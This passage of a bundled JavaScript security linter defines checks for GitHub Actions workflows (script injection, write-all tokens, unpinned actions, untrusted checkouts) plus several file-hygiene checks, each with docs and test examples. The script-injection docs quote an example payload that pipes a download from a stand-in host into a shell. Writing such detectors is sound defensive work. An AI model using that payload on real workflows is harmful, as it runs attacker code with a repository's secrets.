break and are left alone; with \`markdown-hard-breaks: false\` they are not. Patches are left alone: their context lines
may end with blanks.`,
    options: {
        'markdown-hard-breaks': { type: 'boolean', default: true, summary: 'leave the hard line breaks of Markdown alone' },
    },
    examples: [
        {
            title: 'Blanks after code',
            files: { 'a.py': 'x = 1  \ny = 2\n\t\nz = 3\t\n' },
            findings: ['a.py:1', 'a.py:3', 'a.py:4'],
            fixed: { 'a.py': 'x = 1\ny = 2\n\nz = 3\n' },
        },
        {
            title: 'A hard line break in Markdown',
            files: { 'a.md': 'first  \nsecond \n   \n' },
            findings: ['a.md:2', 'a.md:3'],
            fixed: { 'a.md': 'first  \nsecond\n\n' },
        },
        {
            title: 'Windows line ends stay',
            files: { 'a.txt': 'one \r\ntwo\r\n' },
            findings: ['a.txt:1'],
            fixed: { 'a.txt': 'one\r\ntwo\r\n' },
        },
    ],
    run(file, report, options) {
        const breaks = options['markdown-hard-breaks'] && (file.types & file_type/* FileType */.pt.markdown) !== 0;
        const starts = file.lineStarts();
        for (let line = 0; line < starts.length; line++)
            reportLine(file, report, starts[line], file.lineEnd(line), breaks);
    },
});
function reportLine(file, report, start, end, breaks) {
    let text = end;
    while (text > start && (file.buffer[text - 1] === 32 || file.buffer[text - 1] === 9))
        text--;
    if (text === end)
        return;
    if (breaks && text > start && end - text >= 2 && file.buffer[text] === 32)
        return;
    const at = { offset: text, length: end - text };
    report({
        message: text === start ? 'Blank line with blanks' : 'Blanks at the end of the line',
        at,
        fix: { description: 'Remove the blanks', edits: [{ ...at, text: '' }] },
    });
}

;// CONCATENATED MODULE: ./lib/modules/checks/windows-name.js

const windowsName = treeCheck({
    id: 'windows-name',
    scope: 'tree',
    summary: 'Names that Windows cannot have',
    level: 'warning',
    source: 'https://learn.microsoft.com/en-us/windows/win32/fileio/naming-a-file',
    docs: `A repository with such a name cannot be checked out on Windows: the characters \`< > : " | ? *\` and backslash,
control characters, a blank or a dot at the end, and the names of devices (\`CON\`, \`PRN\`, \`AUX\`, \`NUL\`, \`COM1\`,
\`LPT1\` and so on), with or without an extension.`,
    examples: [
        { title: 'A device', files: { 'src/aux.c': 'int x;\n' }, findings: ['src/aux.c'] },
        { title: 'A character', files: { 'a:b.txt': 'x\n', 'end.': 'x\n' }, findings: ['a:b.txt', 'end.'] },
        { title: 'Fine', files: { 'auxiliary.c': 'int x;\n', 'con/x': 'y\n' }, findings: ['con/x'] },
    ],
    run(tree, report) {
        for (const { path } of tree.candidates) {
            if (!illegal.test(path))
                continue;
            const part = path.split('/').find((one) => illegal.test(one)) ?? path;
            report(path, { message: `Windows cannot have the name ${JSON.stringify(part)}` });
        }
    },
});
const illegal = /[<>:"|?*\\\u0000-\u001f]|[. ](?:\/|$)|(?:^|\/)(?:con|prn|aux|nul|com[1-9\u00b9\u00b2\u00b3]|lpt[1-9\u00b9\u00b2\u00b3])(?:\.[^/]*)?(?:\/|$)/i;

;// CONCATENATED MODULE: ./lib/modules/checks/workflow/parse.js
let last;
/** The workflow, or the composite action, that `text` holds; parsed once for all checks that ask for it in turn. */
async function parseWorkflow(text) {
    if (last?.text !== text)
        last = { text, parsed: parse(text) };
    return last.parsed;
}
async function parse(text) {
    if (!/^\s*["']?(?:jobs|runs)["']?\s*:/m.test(text))
        return undefined;
    const { parseYamlWorkflow } = await Promise.all(/* import() */[__webpack_require__.e(815), __webpack_require__.e(172)]).then(__webpack_require__.bind(__webpack_require__, 8172));
    return parseYamlWorkflow(text);
}
/** Runs `judge` over the workflow in `file` and reports what it says, each place once: an anchor may be used twice. */
async function judgeWorkflow(file, report, judge) {
    const text = file.text();
    const workflow = await parseWorkflow(text);
    if (workflow === undefined)
        return;
    // Invalid bytes became U+FFFD, so offsets in the text are not offsets in the file.
    const exact = Buffer.byteLength(text) === file.length;
    const seen = new Set();
    for (const { start, end, message, level, rule } of judge(workflow, text)) {
        const identity = `${start}:${end}:${rule}`;
        if (seen.has(identity))
            continue;
        seen.add(identity);
        const offset = Buffer.byteLength(text.slice(0, start));
        const at = exact ? { offset, length: Buffer.byteLength(text.slice(start, end)) } : undefined;
        report({ message, at, level, rule });
    }
}
/** The expressions in the source of a scalar. */
function* embedded(text, scalar) {
    for (const match of text.slice(scalar.start, scalar.end).matchAll(/\$\{\{((?:'(?:[^']|'')*'|(?!\}\}).)*)\}\}/gs)) {
        const start = scalar.start + match.index;
        yield { expression: match[1], start, end: start + match[0].length };
    }
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-change.js


const workflow = /^\.github\/workflows\/[^/]+\.ya?ml$/;
const other = /^(?:\.gitlab-ci\.ya?ml|\.gitlab\/ci\/.+\.ya?ml|\.circleci\/[^/]+\.ya?ml|bitbucket-pipelines\.ya?ml|\.?azure-pipelines[\w.-]*\.ya?ml|Jenkinsfile[\w.-]*|\.travis\.ya?ml|\.drone\.ya?ml|appveyor\.ya?ml|\.appveyor\.ya?ml|\.cirrus\.ya?ml|\.buildkite\/.+\.ya?ml|\.woodpecker(?:\/.+)?\.ya?ml|\.semaphore\/.+\.ya?ml)$|^\.github\/actions\/.+/;
const workflowChange = changeCheck({
    scope: 'change',
    id: 'workflow-change',
    summary: 'The change alters what runs in CI',
    level: 'note',
    docs: `What runs in CI holds the keys: tokens that write to the repository, secrets for releases and clouds. A change of
it deserves a reader who knows what it may do, so a changed GitHub workflow is reported together with that: events that
run with secrets even for forks, permissions to write, and the secrets it reads.

Also reported, without such detail, are local actions in \`.github/actions\` and the configuration of GitLab CI, CircleCI,
Bitbucket, Azure, Jenkins, Travis, Drone, AppVeyor, Cirrus, Buildkite, Woodpecker and Semaphore. Changes of comments and
empty lines alone are left alone, so are changes that only raise the versions of actions, and so are deleted files.

There is nothing to mend where the change is meant.`,
    source: 'https://docs.github.com/en/actions/reference/security/secure-use',
    examples: [
        {
            title: 'a workflow that may write, and another CI',
            base: { '.github/workflows/ci.yml': 'on: push\npermissions:\n  contents: write\njobs: {}\n' },
            files: {
                '.github/workflows/ci.yml': 'on: [push]\npermissions:\n  contents: write\njobs: {}\n',
                '.gitlab-ci.yml': 'test:\n  script: make\n',
            },
            findings: ['.github/workflows/ci.yml:1', '.gitlab-ci.yml:1'],
        },
        {
            title: 'comments, versions of actions, templates elsewhere, and deleted files',
            base: {
                '.github/workflows/ci.yml': 'on: push\njobs: {}\n',
                '.github/actions/a/action.yml': 'runs:\n  using: composite\n  steps:\n    - uses: a/b@v1\n',
                '.travis.yml': 'language: c\n',
            },
            files: {
                '.github/workflows/ci.yml': '# On each push.\non: push\njobs: {}\n',
                '.github/actions/a/action.yml': 'runs:\n  using: composite\n  steps:\n    - uses: a/b@v2\n',
                'templates/.gitlab-ci.yml': 'a: {}\n',
            },
            findings: [],
        },
    ],
    async run(change, report) {
        for (const file of change.files) {
            const isWorkflow = workflow.test(file.path);
            const line = isWorkflow || other.test(file.path) ? firstLine(file) : undefined;
            if (line === undefined)
                continue;
            const powers = isWorkflow ? await powersOf(change, file) : '';
            report(file.path, { line, message: `the change alters what runs in CI${powers === '' ? '' : `: ${powers}`}` });
        }
    },
});
const version = /^\s*(?:-\s+)?uses:\s*[^\s@]+@\S+\s*(?:#.*)?$/;
function firstLine({ status, hunks }) {
    const raises = hunks.every((hunk) => hunk.baseCount === hunk.headCount && hunk.added.every((line) => version.test(line)));
    if (status === 'deleted' || raises)
        return undefined;
    for (const { added, baseCount, headStart } of hunks) {
        const index = added.findIndex((line) => !/^\s*(?:#|\/\/|$)/.test(line));
        if (index >= 0)
            return headStart + index;
        if (baseCount > 0 && added.length === 0)
            return Math.max(1, headStart);
    }
    return undefined;
}
/** What the workflow may do, as the end of a sentence; empty if there is nothing of note, or it is no YAML. */
async function powersOf(change, file) {
    const text = change.text(file) ?? '';
    const parsed = await parseWorkflow(text);
    if (parsed === undefined)
        return '';
    const events = ['pull_request_target', 'workflow_run', 'issue_comment'].filter((event) => parsed.triggers.has(event));
    const writes = writable(parsed);
    const secrets = [...new Set([...text.matchAll(/\bsecrets\.(\w+)/g)].map((match) => match[1]))].filter((name) => name !== 'GITHUB_TOKEN');
    return [
        events.length > 0 ? `strangers can set it off (${events.join(', ')})` : '',
        writes.length > 0 ? `it may write ${writes.join(', ')}` : '',
        secrets.length > 0
            ? `it reads ${secrets.length === 1 ? 'the secret' : `${secrets.length} secrets, among them`} ${secrets[0]}`
            : '',
    ]
        .filter((power) => power !== '')
        .join('; ');
}
function writable({ permissions, jobs }) {
    const scopes = new Set();
    for (const { all, scopes: named } of [permissions, ...jobs.map((job) => job.permissions)].filter(isGiven)) {
        if (all?.value === 'write-all')
            scopes.add('everything');
        for (const [scope, level] of named)
            if (level.value === 'write')
                scopes.add(scope);
    }
    return [...scopes];
}
function isGiven(permissions) {
    return permissions !== undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-permissions.js



const workflowPermissions = fileCheck({
    scope: 'file',
    id: 'workflow-permissions',
    summary: 'A workflow whose token may do more than it says',
    level: 'warning',
    docs: `Every job receives a token for the repository. Without \`permissions\` the settings of the repository or the
organisation decide what it may do, and in many that is to write everything. Whatever the job runs, an action or a
package that turned bad, may do the same.

Reported are \`permissions: write-all\`, and once per workflow that neither the workflow nor each of its jobs names its
permissions. A workflow that is only called by others (\`workflow_call\`) is left alone: its caller sets the limit.

Begin with \`permissions: { contents: read }\` at the top, or \`permissions: {}\`, and give single jobs what they need.`,
    source: 'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions',
    types: file_type/* FileType */.pt.workflow,
    examples: [
        {
            title: 'no permissions at all, or in one job only',
            files: {
                '.github/workflows/a.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps: []\n',
                '.github/workflows/b.yml': 'on: push\njobs:\n  one:\n    permissions: {}\n    runs-on: ubuntu-latest\n  two:\n    runs-on: ubuntu-latest\n',
            },
            findings: ['.github/workflows/a.yml:3 missing', '.github/workflows/b.yml:6 missing'],
        },
        {
            title: 'everything',
            files: {
                '.github/workflows/a.yml': 'on: push\npermissions: write-all\njobs:\n  build:\n    runs-on: ubuntu-latest\n',
            },
            findings: ['.github/workflows/a.yml:2 write-all'],
        },
        {
            title: 'at the top, in each job, or set by the caller',
            files: {
                '.github/workflows/a.yml': 'on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n',
                '.github/workflows/b.yml': 'on: push\njobs:\n  build:\n    permissions: {}\n    runs-on: ubuntu-latest\n',
                '.github/workflows/c.yml': 'on: workflow_call\njobs:\n  build:\n    runs-on: ubuntu-latest\n',
            },
            findings: [],
        },
    ],
    run(file, report) {
        return judgeWorkflow(file, report, judge);
    },
});
function* judge({ kind, triggers, permissions, jobs }) {
    for (const { all } of [permissions, ...jobs.map((job) => job.permissions)].filter((some) => some !== undefined)) {
        if (all?.value !== 'write-all')
            continue;
        yield {
            start: all.start,
            end: all.end,
            rule: 'write-all',
            message: '`write-all` lets the token change everything in the repository',
        };
    }
    const called = triggers.size === 1 && triggers.has('workflow_call');
    if (kind === 'action' || called || permissions !== undefined)
        return;
    const open = jobs.filter((job) => job.permissions === undefined);
    if (open[0] === undefined)
        return;
    const who = open.length === jobs.length
        ? 'neither the workflow nor its jobs name'
        : `neither the workflow nor ${list(open.map((job) => job.name.value))} names`;
    const { start, end } = open[0].name;
    yield { start, end, rule: 'missing', message: `${who} the permissions of the token` };
}
function list(names) {
    const shown = names.slice(0, 3).map((name) => `\`${name}\``);
    return names.length > 3 ? `${shown.join(', ')} and ${names.length - 3} more jobs` : shown.join(', ');
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow/expression.js
/**
 * The contexts whose text can become part of what an expression evaluates to: lower-case paths such as
 * `github.event.issue.title`, with `*` for an index. A comparison yields no text of its operands, and neither does a
 * function that tests. An expression that cannot be read yields every path in it.
 *
 * The language: https://docs.github.com/en/actions/reference/workflows-and-actions/expressions
 */
function resultContexts(expression) {
    const tokens = tokenize(expression);
    const reader = { tokens, at: 0 };
    const found = tokens === undefined ? undefined : readOr(reader);
    if (found !== undefined && reader.at === tokens?.length)
        return found;
    return (expression.match(/[A-Za-z_][\w-]*(?:\.[\w*-]+)+/g) ?? []).map((path) => path.toLowerCase());
}
const token = /\s*('(?:[^']|'')*'|[A-Za-z_][\w-]*|[\d.+-][\w.+-]*|&&|\|\||[=!<>]=|[()[\],.!<>*])/y;
function tokenize(expression) {
    const tokens = [];
    const text = expression.trimEnd();
    for (token.lastIndex = 0; token.lastIndex < text.length;) {
        // A dot before a name is a dereference, not the beginning of a number.
        const match = token.exec(text);
        if (match === null)
            return undefined;
        const [, word] = match;
        if (/^\.[^\d]/.test(word)) {
            tokens.push('.');
            token.lastIndex -= word.length - 1;
        }
        else
            tokens.push(word);
    }
    return tokens;
}
function take(reader, ...wanted) {
    const next = reader.tokens?.[reader.at];
    if (next === undefined || !wanted.includes(next))
        return undefined;
    reader.at++;
    return next;
}
function readOr(reader) {
    let found = readAnd(reader);
    while (found !== undefined && take(reader, '||')) {
        const right = readAnd(reader);
        found = right === undefined ? undefined : [...found, ...right];
    }
    return found;
}
/** `a && b` is `a` only where `a` is empty or false. */
function readAnd(reader) {
    let found = readComparison(reader);
    while (found !== undefined && take(reader, '&&'))
        found = readComparison(reader);
    return found;
}
function readComparison(reader) {
    let found = readUnary(reader);
    while (found !== undefined && take(reader, '==', '!=', '<', '<=', '>', '>=')) {
        found = readUnary(reader) === undefined ? undefined : [];
    }
    return found;
}
function readUnary(reader) {
    if (!take(reader, '!'))
        return readPath(reader);
    return readUnary(reader) === undefined ? undefined : [];
}
function readPath(reader) {
    const first = reader.tokens?.[reader.at++];
    if (first === undefined)
        return undefined;
    if (first === '(')
        return readDereferences(reader, readGroup(reader));
    if (/^['\d+.-]/.test(first))
        return [];
    if (!/^[A-Za-z_]/.test(first))
        return undefined;
    if (take(reader, '('))
        return readDereferences(reader, readCall(reader, first.toLowerCase()));
    return readDereferences(reader, /^(?:true|false|null|infinity|nan)$/i.test(first) ? [] : [first.toLowerCase()]);
}
function readGroup(reader) {
    const inner = readOr(reader);
    return take(reader, ')') ? inner : undefined;
}
function readCall(reader, name) {
    const found = [];
    while (!take(reader, ')')) {
        const argument = readOr(reader);
        if (argument === undefined)
            return undefined;
        found.push(...argument);
        if (!take(reader, ',') && reader.tokens?.[reader.at] !== ')')
            return undefined;
    }
    return /^(?:contains|startswith|endswith|hashfiles|always|success|failure|cancelled)$/.test(name) ? [] : found;
}
/** `.name`, `['name']`, `[0]` and `.*` behind each of `paths`. */
function readDereferences(reader, paths) {
    let found = paths;
    while (found !== undefined) {
        let name;
        if (take(reader, '.'))
            name = reader.tokens?.[reader.at++];
        else if (take(reader, '['))
            name = readIndex(reader);
        else
            return found;
        if (name === undefined)
            return undefined;
        const part = name.toLowerCase();
        found = found.map((path) => `${path}.${part}`);
    }
    return undefined;
}
function readIndex(reader) {
    const literal = reader.tokens?.[reader.at]?.match(/^'([\w-]+)'$/)?.[1];
    if (literal !== undefined)
        reader.at++;
    else if (!take(reader, '*') && readOr(reader) === undefined)
        return undefined;
    return take(reader, ']') ? (literal ?? '*') : undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow/untrusted.js
const person = '(?:author|committer)\\.(?:name|email)';
const commit = `(?:message|${person})`;
const texts = [
    '(?:issue|discussion|pull_request)\\.(?:title|body)',
    '(?:comment|review|review_comment|discussion_comment)\\.body',
    'pull_request\\.head\\.(?:ref|label|repo\\.(?:default_branch|description|homepage))',
    'pages\\.[^.]+\\.page_name',
    `(?:commits\\.[^.]+|head_commit)\\.${commit}`,
    'workflow_run\\.(?:head_branch|display_title|head_repository\\.description|pull_requests\\.[^.]+\\.head\\.ref)',
    `workflow_run\\.head_commit\\.${commit}`,
].join('|');
const untrusted = new RegExp(`^github\\.(?:head_ref|event\\.(?:${texts}))$`);
// A whole object, as `toJSON` prints it, holds those texts too.
const whole = /^github(?:\.event(?:\.(?:issue|discussion|pull_request|comment|review|commits|head_commit|workflow_run)(?:\.\*)?)?)?$/;
/**
 * Whether anybody, a stranger included, may choose the text of this context (a path as `resultContexts` gives it).
 * From https://docs.github.com/en/actions/concepts/security/script-injections, less what only members can write:
 * names of labels, releases, pushed branches.
 */
function isUntrusted(context) {
    return untrusted.test(context) || whole.test(context);
}
/**
 * Whether the context exists in pull requests only, where without one of the privileged events the run has neither
 * secrets nor a token that may write.
 */
function isOfPullRequest(context) {
    return context === 'github.head_ref' || context.startsWith('github.event.pull_request.');
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-script-injection.js





const workflowScriptInjection = fileCheck({
    scope: 'file',
    id: 'workflow-script-injection',
    summary: 'A script into which a stranger can write commands',
    level: 'error',
    docs: `GitHub puts the value of \`\${{ … }}\` into a script before the shell reads it. Where the value is the title of an
issue or the name of a branch, whoever chooses it writes commands into the script: \`"; curl evil.example | sh; "\`.

Looked at are \`run\` and the \`script\` of \`actions/github-script\`, and in them the contexts that anybody can fill: titles,
bodies, messages, names and e-mail addresses of authors, head branches; also by way of \`env\`. Expressions that only
compare or test such a value are left alone. The level is a warning where the value exists in pull requests only and the
run has neither secrets nor a token that may write. Inputs of a composite action, and text inputs of a reusable workflow,
are a note, one for each script: it depends on who calls. Inputs of \`workflow_dispatch\` are left alone, only members can give them.

Hand the value over as a variable, and quote it: \`env: { TITLE: "\${{ github.event.issue.title }}" }\`, then \`"$TITLE"\`
in the shell or \`process.env.TITLE\` in JavaScript.`,
    source: 'https://docs.github.com/en/actions/concepts/security/script-injections',
    types: file_type/* FileType */.pt.workflow,
    examples: [
        {
            title: 'a title in a shell, a branch in JavaScript, a message by way of a variable',
            files: {
                '.github/workflows/triage.yml': `on: [issues, pull_request_target, push]
env:
  MESSAGE: \${{ github.event.head_commit.message }}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New:"
          echo "\${{ github.event.issue.title || 'none' }}"
      - uses: actions/github-script@v7
        with:
          script: console.log('\${{ github.head_ref }}')
      - run: echo "\${{ env.MESSAGE }}" "\${{ toJSON(github.event.issue) }}"
`,
            },
            findings: [10, 13, 14, 14].map((line) => `.github/workflows/triage.yml:${line}`),
        },
        {
            title: 'the inputs of a composite action',
            files: {
                'greet/action.yml': `inputs:
  name:
    description: Who
runs:
  using: composite
  steps:
    - run: echo "\${{ inputs.name }}"
      shell: bash
`,
            },
            findings: ['greet/action.yml:7'],
        },
        {
            title: 'values as variables, comparisons, numbers, and inputs that members give',
            files: {
                '.github/workflows/triage.yml': `on:
  issues:
  workflow_dispatch:
    inputs:
      name: { type: string }
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE" "\${{ contains(github.event.issue.title, 'bug') }}" "\${{ github.event.issue.number }}"
        env:
          TITLE: \${{ github.event.issue.title }}
      - run: echo "\${{ github.event.issue.title == 'x' && 'yes' || 'no' }}" "\${{ inputs.name }}"
`,
            },
            findings: [],
        },
    ],
    run(file, report) {
        return judgeWorkflow(file, report, workflow_script_injection_judge);
    },
});
function* workflow_script_injection_judge(workflow, text) {
    for (const job of workflow.jobs) {
        for (const step of job.steps) {
            for (const script of scripts(step)) {
                let noted = false;
                for (const { expression, start, end } of embedded(text, script)) {
                    const contexts = resultContexts(expression).flatMap((context) => [
                        context,
                        ...ofVariable(context, [step, job, workflow], text),
                    ]);
                    const remark = judgeContexts(contexts, workflow);
                    if (remark === undefined || (remark.level === 'note' && noted))
                        continue;
                    noted ||= remark.level === 'note';
                    yield { start, end, ...remark };
                }
            }
        }
    }
}
function scripts({ uses, run, with: inputs }) {
    const script = /^actions\/github-script@/i.test(uses?.value ?? '') ? inputs.get('script') : undefined;
    return [run, script].filter((scalar) => scalar !== undefined);
}
/** The contexts in the variable that `env.NAME` stands for: the innermost of that name. */
function ofVariable(context, scopes, text) {
    const name = context.match(/^env\.(.+)$/)?.[1];
    if (name === undefined)
        return [];
    const value = scopes.map(({ env }) => env.get(name)).find((scalar) => scalar !== undefined);
    return value === undefined ? [] : [...embedded(text, value)].flatMap(({ expression }) => resultContexts(expression));
}
function judgeContexts(contexts, workflow) {
    const found = contexts.find(isUntrusted);
    if (found !== undefined) {
        const privileged = ['pull_request_target', 'workflow_call'].some((event) => workflow.triggers.has(event));
        const harmless = workflow.kind === 'workflow' && isOfPullRequest(found) && !privileged;
        const message = `whoever chooses \`${found}\` can write commands into this script; hand it over in \`env\``;
        return { message, level: harmless ? 'warning' : 'error' };
    }
    const input = contexts.find((context) => context.startsWith('inputs.') && workflow.textInputs.has(context.slice(7)));
    if (input === undefined)
        return undefined;
    return {
        message: `whoever fills \`${input}\` can write commands into this script; hand it over in \`env\``,
        level: 'note',
    };
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-unpinned-uses.js



const sha = 'a5ac7e51b41094c92402da3b24376905380afc29';
const workflowUnpinnedUses = fileCheck({
    scope: 'file',
    id: 'workflow-unpinned-uses',
    summary: 'An action that is named by a tag or a branch, which can be moved',
    level: 'warning',
    docs: `Whoever can push to an action's repository can move its tags, and every workflow that names one then runs other
code, with its secrets and its token. Only the full SHA of a commit stands for the same code always.

Looked at are the steps and the called workflows of \`.github/workflows\`, and the steps of composite actions. Local
actions (\`./…\`) and images with a digest are left alone. GitHub's own actions (\`actions/…\`, \`github/…\`) are a note only.
\`allow\` names owners or repositories that are trusted, your own organisation for instance: \`acme\`, \`acme/deploy\`,
\`acme/deploy-*\`.

Put the SHA in place of the tag and the tag in a comment behind it: \`uses: acme/deploy@${sha.slice(0, 8)}… # v1.2.3\`.
Dependabot and Renovate update both.`,
    source: 'https://docs.github.com/en/actions/reference/security/secure-use#using-third-party-actions',
    types: file_type/* FileType */.pt.workflow,
    options: {
        allow: {
            type: 'strings',
            default: [],
            summary: 'Owners and repositories that are trusted; `*` stands for any name',
        },
    },
    examples: [
        {
            title: 'tags, branches, short SHAs, images and called workflows',
            files: {
                '.github/workflows/ci.yml': `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: acme/setup@main
      - uses: acme/setup/node@a5ac7e5
      - uses: docker://alpine:3.20
  call:
    uses: acme/shared/.github/workflows/ci.yml@v1
`,
            },
            findings: [6, 7, 8, 9, 11].map((line) => `.github/workflows/ci.yml:${line}`),
        },
        {
            title: 'pinned, local, or trusted',
            options: { allow: ['acme', 'else/deploy-*'] },
            files: {
                'deploy/action.yml': `runs:
  using: composite
  steps:
    - uses: elsewhere/setup@${sha} # v1
    - uses: ./setup
    - uses: docker://alpine@sha256:${sha}${sha.slice(0, 24)}
    - uses: acme/deploy@v1
    - uses: else/deploy-web@v1
`,
            },
            findings: [],
        },
    ],
    run(file, report, options) {
        const allowed = options.allow.map(toPattern);
        return judgeWorkflow(file, report, function* (workflow) {
            for (const job of workflow.jobs) {
                for (const uses of [job.uses, ...job.steps.map((step) => step.uses)]) {
                    const remark = uses === undefined ? undefined : workflow_unpinned_uses_judge(uses, allowed);
                    if (remark !== undefined)
                        yield remark;
                }
            }
        });
    },
});
function workflow_unpinned_uses_judge(uses, allowed) {
    const { value, start, end } = uses;
    if (value.startsWith('./') || value.startsWith('.\\') || value.includes('${{'))
        return undefined;
    if (value.startsWith('docker://')) {
        return /@sha256:[\da-f]{64}$/.test(value)
            ? undefined
            : { start, end, message: `the image \`${value.slice(9)}\` is not pinned by its digest` };
    }
    const [action = '', ref = ''] = value.split('@');
    const [owner = '', repository = ''] = action.split('/');
    if (/^[\da-f]{40}(?:[\da-f]{24})?$/i.test(ref) || allowed.some((pattern) => pattern.test(`${owner}/${repository}`)))
        return undefined;
    const message = ref === ''
        ? `\`${value}\` names no version`
        : `\`${action}\` is pinned to \`${ref}\`, which can be moved, not to the SHA of a commit`;
    return { start, end, message, level: /^(?:actions|github)$/i.test(owner) ? 'note' : 'warning' };
}
/** `acme`, `acme/deploy` and `acme/deploy-*`, as a pattern for `owner/repository`. */
function toPattern(allowed) {
    const escaped = allowed.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replaceAll('*', '[^/]*');
    return new RegExp(`^${escaped}${allowed.includes('/') ? '' : '/.*'}$`, 'i');
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-untrusted-checkout.js



const ofPullRequest = /github\.event\.pull_request\.(?:head\.|number|merge_commit_sha)|github\.head_ref|github\.event\.number|refs\/pull\//;
const ofRun = /github\.event\.workflow_run\.(?:head_(?!repository\.full_name\s*==)|pull_requests)/;
const inScript = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull|checkout|switch)\b[^\n]*(?:\bpull\/\S+\/(?:head|merge)|github\.head_ref|pull_request\.head\.)/;
// Conditions that hold only for code from the repository itself.
const onlyOwnCode = /head\.repo\.full_name\s*==\s*(?:github\.repository|'[^']+')|head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork|workflow_run\.head_repository\.full_name\s*==|workflow_run\.event\s*==\s*'(?!pull_request)|workflow_run\.event\s*!=\s*'pull_request'/;
const workflowUntrustedCheckout = fileCheck({
    scope: 'file',
    id: 'workflow-untrusted-checkout',
    summary: 'A workflow with secrets that checks out the code of a stranger',
    level: 'error',
    docs: `\`pull_request_target\` and \`workflow_run\` run in the name of the repository, with its secrets and a token that may
write, even when a fork set them off. If such a run checks out the head of the pull request and then builds, installs or
tests it, the author of the pull request runs commands with those secrets.

Looked at are \`actions/checkout\` with a \`ref\` or \`repository\` of the pull request, and scripts with \`gh pr checkout\` or
\`git fetch … pull/…\`. For \`workflow_run\` the level is a warning, since what set it off may never be a pull request. Jobs
and steps are left alone whose condition admits other events only, or only code from the repository itself
(\`head.repo.full_name == github.repository\`, \`workflow_run.event == 'push'\`).

Build under \`pull_request\`, hand the result over as an artifact, and let the privileged workflow read that as data.`,
    source: 'https://docs.github.com/en/actions/reference/security/secure-use#mitigating-the-risks-of-untrusted-code-checkout',
    types: file_type/* FileType */.pt.workflow,
    examples: [
        {
            title: 'the head of the pull request, with secrets',
            files: {
                '.github/workflows/ci.yml': `on: [push, pull_request_target]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: gh pr checkout 1
`,
            },
            findings: ['.github/workflows/ci.yml:8', '.github/workflows/ci.yml:9'],
        },
        {
            title: 'the commit that set off the first workflow',
            files: {
                '.github/workflows/after.yml': `on:
  workflow_run:
    workflows: [CI]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.workflow_run.head_sha }}
`,
            },
            findings: ['.github/workflows/after.yml:10'],
        },
        {
            title: 'the base, an event without secrets, and code from the repository itself',
            files: {
                '.github/workflows/base.yml': `on: pull_request_target
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
  own:
    if: github.event.pull_request.head.repo.full_name == github.repository
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.head_ref }}
`,
                '.github/workflows/ci.yml': `on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
`,
            },
            findings: [],
        },
    ],
    run(file, report) {
        return judgeWorkflow(file, report, workflow_untrusted_checkout_judge);
    },
});
function* workflow_untrusted_checkout_judge({ triggers, jobs }) {
    const events = ['pull_request_target', 'workflow_run'].filter((event) => triggers.has(event));
    for (const job of jobs) {
        for (const step of job.steps) {
            const conditions = `${job.condition}\n${step.condition}`;
            if (onlyOwnCode.test(conditions))
                continue;
            const event = events.find((name) => admits(conditions, name) && checkedOut(step, name) !== undefined);
            const place = event === undefined ? undefined : checkedOut(step, event);
            if (event === undefined || place === undefined)
                continue;
            const message = `\`${event}\` runs with secrets, and this checks out code that a stranger may have written`;
            yield { start: place.start, end: place.end, message, level: event === 'workflow_run' ? 'warning' : 'error' };
        }
    }
}
/** False where a condition names the event that it wants, and that is another one. */
function admits(conditions, event) {
    const wanted = [...conditions.matchAll(/github\.event_name\s*==\s*'(\w+)'/g)].map((match) => match[1]);
    const barred = [...conditions.matchAll(/github\.event_name\s*!=\s*'(\w+)'/g)].map((match) => match[1]);
    return (wanted.length === 0 || wanted.includes(event)) && !barred.includes(event);
}
/** What in the step names the stranger's code. */
function checkedOut({ uses, run, with: inputs }, event) {
    const pattern = event === 'workflow_run' ? ofRun : ofPullRequest;
    if (/^actions\/checkout@/i.test(uses?.value ?? '')) {
        return ['ref', 'repository'].map((name) => inputs.get(name)).find((scalar) => scalar && pattern.test(scalar.value));
    }
    return event === 'pull_request_target' && inScript.test(run?.value ?? '') ? run : undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/zero-width.js



const zeroWidth = fileCheck({
    id: 'zero-width',
    scope: 'file',
    summary: 'Invisible characters in code',
    level: 'warning',
    facts: facts/* Fact */.d.nonAscii,
    except: file_type/* unkempt */.rV | file_type/* FileType */.pt.markdown,
    source: 'https://www.unicode.org/reports/tr55/',
    docs: `A zero-width space, a word joiner, a byte-order mark in the middle of a file or a tag character (U+E0000 to U+E007F)
cannot be seen: two names look the same and are not, and text can be hidden from a reviewer. Zero-width joiners and
non-joiners are left alone between letters of scripts that need them and within emoji. Prose is left alone.`,
    examples: [
        { title: 'A zero-width space in a name', files: { 'a.js': 'const use\u200br = 1;\n' }, findings: ['a.js:1'] },
        { title: 'An emoji that is joined', files: { 'a.js': 'const a = "\u{1F468}\u200d\u{1F469}";\n' }, findings: [] },
        { title: 'Persian', files: { 'a.js': 'const a = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645";\n' }, findings: [] },
    ],
    run(file, report) {
